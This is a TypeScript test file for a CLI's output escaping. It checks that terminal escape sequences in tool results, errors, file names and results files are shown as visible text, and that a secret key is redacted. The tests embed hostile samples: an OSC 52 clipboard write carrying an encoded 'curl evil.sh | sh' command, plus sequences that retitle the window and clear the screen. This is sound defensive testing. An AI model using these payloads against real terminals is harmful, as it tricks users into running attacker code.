import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Command } from 'commander';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { ApiaryError } from '../shared/index.js';
import { registerToolsCommands } from './commands/tools.js';
import { printJson, reportError, terminalText } from './output.js';

/*
 * Attack (issue 24, row 19): a tool result or an error holds terminal escape sequences — OSC 52
 * (write the clipboard), OSC 0 (retitle the window), CSI 2J (clear the screen), an 8-bit CSI — and
 * the CLI printed them raw, so the terminal obeyed. Printed now as visible text.
 */

const ESC = '\x1b';
const CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07`; // "curl evil.sh | sh" into the clipboard
const TITLE = `${ESC}]0;owned${ESC}\\`;
const CLEAR = `${ESC}[2J${ESC}[H`;

/** What was written to a stream while `run` ran. */
async function captured(stream: NodeJS.WriteStream, run: () => unknown): Promise<string> {
  let out = '';
  const spy = vi.spyOn(stream, 'write').mockImplementation((chunk: string | Uint8Array) => {
    out += typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8');
    return true;
  });
  try {
    await run();
  } finally {
    spy.mockRestore();
  }
  return out;
}

/** No byte a terminal acts on: C0 but \n and \t, DEL, C1, bidi controls. */
const UNSAFE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

afterEach(() => {
  process.exitCode = undefined;
});

describe('terminalText', () => {
  it('writes escape sequences and other controls as visible text, keeps newlines, tabs and Unicode', () => {
    expect(terminalText(`a${CLIPBOARD}b`)).toBe('a\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07b');
    expect(terminalText(TITLE)).toBe('\\x1b]0;owned\\x1b\\');
    expect(terminalText(CLEAR)).toBe('\\x1b[2J\\x1b[H');
    expect(terminalText('8-bit \x9b31m CSI, DEL \x7f, CR \r, NUL \0, BS \b')).toBe(
      '8-bit \\x9b31m CSI, DEL \\x7f, CR \\x0d, NUL \\x00, BS \\x08',
    );
    expect(terminalText('admin\u202e gnp.exe')).toBe('admin\\u202e gnp.exe');
    expect(terminalText('line 1\n\tline 2 — café, 東京, 😀')).toBe('line 1\n\tline 2 — café, 東京, 😀');
  });

  it('printJson escapes what JSON.stringify leaves raw (DEL, C1, bidi) and keeps the value', async () => {
    const value = { text: `x${CLIPBOARD}\x9b2J\u202e\x7f` };
    const out = await captured(process.stdout, () => printJson(value));
    expect(out).not.toMatch(UNSAFE);
    expect(JSON.parse(out)).toEqual(value);
  });
});

describe('the CLI prints outside text safely', () => {
  it('an error line (reportError) with escape sequences in its message', async () => {
    const err = await captured(process.stderr, () =>
      reportError(new ApiaryError('TOOL_FAILED', `Calculator: bad input ${TITLE}${CLEAR}`), false),
    );
    expect(err).toBe('error [TOOL_FAILED] Calculator: bad input \\x1b]0;owned\\x1b\\\\x1b[2J\\x1b[H\n');
  });

  it('tools call: a search result holding OSC 52, OSC 0 and CSI sequences', async () => {
    const corpus = join(mkdtempSync(join(tmpdir(), 'apiary-escapes-')), 'corpus.jsonl');
    writeFileSync(
      corpus,
      `${JSON.stringify({
        title: `Weather ${CLIPBOARD} Paris`,
        url: 'https://example.com/weather',
        text: `Sunny ${TITLE} and ${CLEAR} cleared \x9b31m red`,
      })}\n`,
    );
    const program = new Command().exitOverride();
    registerToolsCommands(program);
    const out = await captured(process.stdout, () =>
      program.parseAsync(
        ['tools', 'call', 'GoogleSearch', '--arg', 'query=weather', '--search-corpus', corpus],
        { from: 'user' },
      ),
    );
    expect(out).not.toMatch(UNSAFE);
    expect(out).toContain(
      'Weather \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 Paris: Sunny \\x1b]0;owned\\x1b\\ and \\x1b[2J\\x1b[H cleared \\x9b31m red',
    );
  });
});

describe('files from outside are printed safely (row 19)', () => {
  it('shortcuts show: a downloaded file whose name retitles the terminal', async () => {
    const { runCliInProcess } = await import('./__fixtures__/run-cli-in-process.js');
    const dir = mkdtempSync(join(tmpdir(), 'apiary-evil-shortcut-'));
    const battery = join(
      import.meta.dirname,
      '../benchmarks/shortcutsbench/__fixtures__/my-shortcuts/battery.plist',
    );
    const evil = join(dir, `evil${TITLE}.plist`);
    writeFileSync(evil, readFileSync(battery));
    const r = await runCliInProcess(['shortcuts', 'show', evil]);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(UNSAFE);
    expect(r.stdout.split('\n')[0]).toBe(
      'evil\\x1b]0;owned\\x1b\\ (xml-plist): 2 actions, length 2 (longest branch), level L2',
    );
  });

  it('report: a results file whose category and model clear the screen; summary.json keeps no configured key', async () => {
    const { reportRun } = await import('./commands/report.js');
    (await import('../benchmarks/builtin.js')).registerBuiltinPlugins(); // as the CLI's entry point does
    const { registerSecret } = await import('../shared/index.js');
    const key = 'sk-report-attack-key-0123456789abcdef';
    registerSecret(key);
    const dir = mkdtempSync(join(tmpdir(), 'apiary-evil-report-'));
    const file = join(dir, 'results.jsonl');
    // a real run's records (the viewer fixture), rewritten by the attacker
    const fixture = join(import.meta.dirname, '../viewer/__fixtures__/appbench-tool-loop/results.jsonl');
    const evil = [`mm${CLEAR}`, key];
    const rewrite = (inScore: boolean) => {
      let n = 0;
      const lines = readFileSync(fixture, 'utf8')
        .trim()
        .split('\n')
        .map((text) => {
          const line = JSON.parse(text);
          if (line.type === 'header' && line.spec.model) line.spec.model.id = `model${CLEAR}${key}`;
          if (line.type === 'sample') {
            const category = evil[n++ % evil.length];
            line.category = category;
            if (inScore && line.score) line.score.category = category;
          }
          return JSON.stringify(line);
        });
      writeFileSync(file, `${lines.join('\n')}\n`);
    };
    // in the scores: AppBench's score schema refuses the record before anything is printed
    rewrite(true);
    const refused = await reportRun(file, {}).then(
      () => null,
      (e: unknown) => e as { code: string; field: string; message: string },
    );
    expect(refused).toMatchObject({ code: 'INPUT_INVALID', field: 'score.category' });
    expect(refused!.message).not.toMatch(UNSAFE);
    expect(refused!.message).not.toContain(key);
    // in the records' own categories and the run's model id: printed escaped, the key redacted
    rewrite(false);
    const out = await captured(process.stdout, () => reportRun(file, {}));
    expect(out).not.toMatch(UNSAFE);
    expect(out).not.toContain(key);
    const summary = readFileSync(join(dir, 'summary.json'), 'utf8');
    expect(summary).not.toContain(key);
  });
});
